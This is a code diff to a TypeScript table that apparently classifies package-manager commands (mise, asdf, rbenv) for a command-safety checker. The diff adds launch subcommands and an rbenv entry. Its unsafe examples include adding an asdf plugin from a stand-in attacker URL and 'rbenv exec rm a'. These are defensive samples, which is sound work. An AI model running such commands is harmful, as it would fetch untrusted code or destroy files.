@@ -8,6 +8,8 @@ const trusted: EffectMaker = runs("helper", "the project's own configuration may
 export const packagesTools: readonly ProgramSpec[] = [
   {
     names: ["mise", "rtx"],
+    launches: "run r exec x",
+    runner: "mise",
     style: "posix",
     flags: "--version -V --help -h -q --quiet -v --verbose -y --yes --silent",
     values: { "-C": "cwd", "--cd": "cwd", ...texts("-E --env -j --jobs") },
@@ -72,6 +74,7 @@ export const packagesTools: readonly ProgramSpec[] = [
   },
   {
     names: ["asdf"],
+    launches: "exec",
     style: "posix",
     flags: "--version --help",
     operands: { max: 0 },
@@ -90,5 +93,11 @@ export const packagesTools: readonly ProgramSpec[] = [
         ["asdf plugin add x https://evil.example/x", "package"],
       ],
     },
+  },
+  {
+    names: ["rbenv"],
+    unread: true,
+    launches: "exec",
+    examples: { safe: [], unsafe: [["rbenv exec rm a", "run"]] },
   },
 ];
